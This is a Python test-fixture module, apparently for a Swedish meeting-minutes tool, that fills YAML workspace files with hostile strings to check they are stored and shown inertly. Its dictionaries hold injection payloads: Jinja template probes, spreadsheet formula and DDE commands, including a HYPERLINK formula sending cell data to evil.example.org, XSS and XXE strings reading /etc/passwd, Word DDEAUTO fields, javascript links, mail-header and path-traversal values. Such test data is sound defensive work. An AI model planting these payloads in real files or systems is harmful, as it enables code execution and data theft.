"""What an outsider could write in place of a word, and a small workspace with a place for it in every field of text."""

from __future__ import annotations

import json
import re
from typing import Final

SLOT: Final = re.compile(r"⟦([\w.]+)⟧")
PLAIN: Final = "Ordet"
_UNPRINTED: Final = re.compile("[\x7f-\x9f\u2028\u2029\ufeff]")  # which a file holds as escapes

_CONFIG = """\
format: 1
organisations:
  org: {name: ⟦Organisation.name⟧, short: ⟦Organisation.short⟧}
  hem: {name: Hemmet, former: [{name: ⟦FormerName.name⟧, until: 2030-12-31}]}
people:
  ab:
    name: ⟦Person.name⟧
    organisation: org
    title: ⟦Person.title⟧
    email: ⟦Person.email⟧
    phone: ⟦Person.phone⟧
    initials: ⟦Person.initials⟧
  cd: {name: Cecilia Dal, former: [{organisation: hem, title: ⟦FormerPost.title⟧, until: 2030-12-31}]}
series:
  serie:
    title: ⟦Series.title⟧
    place: ⟦Series.place⟧
    link: ⟦Series.link⟧
    chair: ⟦Series.chair⟧
    secretary: ⟦Series.secretary⟧
    contact: [ab, ⟦Series.contact⟧]
    members: [org]
    agenda: [{title: ⟦StandingItem.title⟧, presenter: ⟦StandingItem.presenter⟧,
              background: ⟦StandingItem.background⟧, enclosures: [⟦StandingItem.enclosures⟧]}]
"""
_EARLIER = """\
date: 2020-04-06
status: sent
agenda:
  - title: Förra punkten
    actions:
      - id: A1
        task: Räkna svaren
        owner: [org, ⟦Update.by⟧]
        due: 2020-05-04
        updates:
          - {date: 2020-04-14, note: ⟦Update.note⟧}
          - {date: 2020-04-15, by: ⟦Update.by⟧, status: done}
      - id: A2
        task: Ring
        owner: org
        due: 2020-05-04
        updates: [{date: 2020-04-16, owner: [⟦Update.owner⟧, org]}]
      - {id: A3, task: Boka, owner: [org, ⟦FollowUp.by⟧], due: 2020-05-04}
"""
_MEETING = """\
title: ⟦Meeting.title⟧
date: 2020-04-20
status: sent
place: ⟦Meeting.place⟧
link: ⟦Meeting.link⟧
diary_number: ⟦Meeting.diary_number⟧
chair: ⟦Meeting.chair⟧
secretary: ⟦Meeting.secretary⟧
checkers: ⟦Meeting.checkers⟧
called: [⟦Meeting.called⟧, ab]
present: [{who: ⟦Attendance.who⟧, for: ⟦Attendance.for⟧, role: ⟦Attendance.role⟧, from: ⟦Attendance.from⟧,
           until: ⟦Attendance.until⟧}, ⟦Meeting.present⟧, ab]
remote: [⟦Meeting.remote⟧]
apologies: [⟦Meeting.apologies⟧]
absent: [⟦Meeting.absent⟧]
guests: [⟦Meeting.guests⟧]
agenda:
  - title: ⟦Item.title⟧
    presenter: ⟦Item.presenter⟧
    background: ⟦Item.background⟧
    notes: ⟦Item.notes⟧
    decisions: [⟦Item.decisions⟧, {id: B1, text: ⟦Decision.text⟧}]
    actions: [{id: A1, task: ⟦Action.task⟧, owner: ⟦Action.owner⟧, said: ⟦Action.said⟧, due: 2020-05-11}]
    contacts: [⟦Item.contacts⟧, ab]
    enclosures: [⟦Item.enclosures⟧, {title: ⟦Enclosure.title⟧, file: ⟦Enclosure.file⟧, later: true}]
  - {title: Åtgärder, show: open-actions}
follow_up:
  - {action: 2020-04-06/A2, note: ⟦FollowUp.note⟧, owner: ⟦FollowUp.owner⟧}
  - {action: 2020-04-06/A3, by: ⟦FollowUp.by⟧, status: done}
enclosures: [⟦Meeting.enclosures⟧]
"""
FILES: Final = {
    "dialog.yaml": _CONFIG,
    "meetings/2020-04-06.yaml": _EARLIER,
    "meetings/2020-04-20.yaml": _MEETING,
}
FIELDS: Final = tuple(dict.fromkeys(SLOT.findall("".join(FILES.values()))))
"""The fields of text, as `Model.key`."""
MARKDOWN: Final = ("StandingItem.background", "Item.background", "Item.notes")
"""Fields whose text is Markdown."""
_NAMES = """
    Series.chair Series.secretary Series.contact StandingItem.presenter Update.by Update.owner FollowUp.by
    FollowUp.owner Meeting.chair Meeting.present Meeting.secretary Meeting.checkers Meeting.called
    Meeting.remote Meeting.apologies Meeting.absent Meeting.guests Attendance.who Attendance.for Item.presenter
    Item.contacts Action.owner
"""
NAMES: Final = tuple(_NAMES.split())
"""Fields that hold a key of the register, or a name, which has a capital letter."""
TEXTS: Final = tuple(field for field in FIELDS if field not in (*MARKDOWN, *NAMES))
"""All other fields."""
IN_MEETINGS: Final = tuple(dict.fromkeys(SLOT.findall(_EARLIER + _MEETING)))
"""The fields that stand in the meetings' files."""

_USUAL: Final = {"Person.email": "ab@example.org", "Person.phone": "063-11 11 11"}


def filled(value: str, fields: tuple[str, ...], markdown: str | None = None) -> dict[str, bytes]:
    """Return the workspace's files with a value in some of the fields, and words of its own in each other one.

    Args:
        value: a text.
        fields: where it stands.
        markdown: what stands for it where a field is Markdown; None for the same.
    """

    def written(slot: re.Match[str]) -> str:
        given = value if markdown is None or slot[1] not in MARKDOWN else markdown
        usual = _USUAL.get(slot[1], f"Eget {FIELDS.index(slot[1])}")
        text = json.dumps(given if slot[1] in fields else usual, ensure_ascii=False)
        return _UNPRINTED.sub(lambda sign: f"\\u{ord(sign[0]):04x}", text)

    return {name: SLOT.sub(written, text).encode() for name, text in FILES.items()}


VALUES: Final[dict[str, str]] = {
    # Jinja, and what else fills in or looks up
    "jinja": "{{ 7*7 }} {{ ''.__class__.__mro__ }} {{ meeting.title }}",
    "jinja statement": "{% include '/etc/passwd' %}{% for i in range(9) %}x{% endfor %}",
    "jinja raw": "{% endraw %}{# x #}{%p if true %}{{p body }}{%tr for a in b %}",
    "format": "%s %(names)s {0} {names!r:>99} ${HOME} %n",
    # markup of terminals
    "rich": "[bold red]fara[/] [link=https://evil.example.org]x[/link] [/]",
    "emoji code": ":warning: :skull:",
    "bidi": "fil\u202egnp.exe \u2066ra\u2069 \u200f\u061c",
    "zero width": "o\u200bs\u200cy\u200dn\u2060ligt\u00ad",
    "tags": "x\U000e0041\U000e0042",
    "combining": "Z" + "\u0300\u0489" * 40,
    # formulas of spreadsheets
    "formula": '=HYPERLINK("https://evil.example.org?"&A1,"klicka")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula wide": "＝1+1",
    "formula dde": '=DDE("cmd";"/C calc";"x")',
    "apostrophe": "'=1+1",
    "separators": 'a;b,c"d";\'e',
    "escaped cell": "_x000D__x0041_",
    # XML and HTML
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "cdata": "<![CDATA[x]]> ]]> <!-- --> --> <?php ?>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c; &xxe; &nbsp;",
    "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "word text": '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:t>',
    "style": "</style></title></head><style>*{display:none}",
    "svg": '</text><script xlink:href="data:,alert(1)"/><text>',
    # fields of Word
    "field": '{ HYPERLINK "https://evil.example.org" } { INCLUDEPICTURE "https://evil.example.org/x.png" }',
    "dde": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" { DDE excel }',
    # links
    "javascript": "javascript:alert(1)",
    "javascript link": "[klicka](javascript:alert(1)) <javascript:alert(1)> [x](JaVaScRiPt:alert(1))",
    "data link": "[klicka](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "file link": "[klicka](file:///etc/passwd) [x](\\\\\\\\evil.example.org\\\\del) [y](vbscript:msgbox)",
    "reference link": "[x]: javascript:alert(1) [x][x]",
    "picture": "![spårad](https://evil.example.org/x.png)",
    # mail
    "mail header": "a@example.org?bcc=ond@example.org&body=hej",
    "mail encoded": "a%0d%0aBcc:ond@example.org",
    "ics": "x;CN=y:BEGIN:VALARM\\nATTACH:file:///etc/passwd\\,END",
    # paths
    "climb": "../../../etc/passwd",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\win.ini",
    "device": "CON",
    "dots": "..",
    "hidden": ".ssh",
    "option": "--help",
    "dash": "-rf",
    "stream": "x.txt:dold",
    # size and letters
    "word": "Ö" * 90,
    "brackets": "[" * 300 + "*" * 300 + "(" * 300,
    "quotes": "\" ' ` ´ ” « \\ / $( ) ; | &",
    "astral": "𝕏🏴‍☠️👩‍👩‍👧",
}
"""One line each: they are read again exactly where they were written."""

REFUSED: Final[dict[str, str]] = {
    "escape": "x\x1b[2J\x1b]0;titel\x07",
    "link of a terminal": "\x1b]8;;https://evil.example.org\x1b\\x\x1b]8;;\x1b\\",
    "c1": "x\x9b31my\x90q",
    "nul": "x\x00y",
    "backspace": "x\x08\x08y\x7f",
    "separator": "x\u2028y\u2029z\x85",
    "feed": "x\x0by\x0cz",
    "byte order mark": "x\ufeffy",
}
"""Control characters, which no file may hold: the program must say so without printing one."""

LINES: Final[dict[str, str]] = {
    "long word": "Ö" * 5_000,
    "tab": "\t=1+1\tx",
    "mail header in lines": "x\r\nBcc: ond@example.org\r\n\r\nhej",
    "ics in lines": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd",
    "carriage return": "snällt\r=elakt",
    "markdown in lines": "x\n\n# Rubrik\n\n<b>\n\n[a]: javascript:alert(1)\n\n| a |\n|---|\n\n    kod",
    "yaml": "x\n---\nstatus: approved\n",
}
"""Texts that are cut, or set as one line or as several: of these only that they steer and run nothing is certain."""
